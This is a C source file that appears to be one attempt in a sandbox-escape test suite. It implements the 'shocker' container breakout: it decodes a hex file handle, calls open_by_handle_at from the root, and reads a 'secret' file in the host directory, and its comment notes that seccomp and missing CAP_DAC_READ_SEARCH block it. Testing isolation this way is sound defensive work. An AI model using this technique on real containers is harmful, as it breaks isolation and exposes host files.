/*
 * Opens a directory of the host by its file handle, no matter what the root is
 * ("shocker").
 * Stopped by: seccomp, SIGSYS.  Behind it: ids and caps
 * (no CAP_DAC_READ_SEARCH).
 */
#include <fcntl.h>

#include "attempt.h"

/* As name_to_handle_at() fills it; the driver gives it as hexadecimals. */
static union {
	struct file_handle handle;
	unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
} there;

int main(int argc, char **argv)
{
	const char *digits = word_of(argc, argv, 1);
	size_t i, n = strlen(digits) / 2;
	int root, dir;

	for (i = 0; i < n && i < sizeof(there.bytes); i++) {
		char both[3] = {digits[2 * i], digits[2 * i + 1], '\0'};

		there.bytes[i] = (unsigned char)strtoul(both, NULL, 16);
	}
	root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (root < 0)
		refused("open");
	dir = open_by_handle_at(root, &there.handle, O_RDONLY | O_CLOEXEC);
	if (dir < 0)
		refused("open_by_handle_at");
	read_prize(openat(dir, "secret", O_RDONLY | O_CLOEXEC));
}
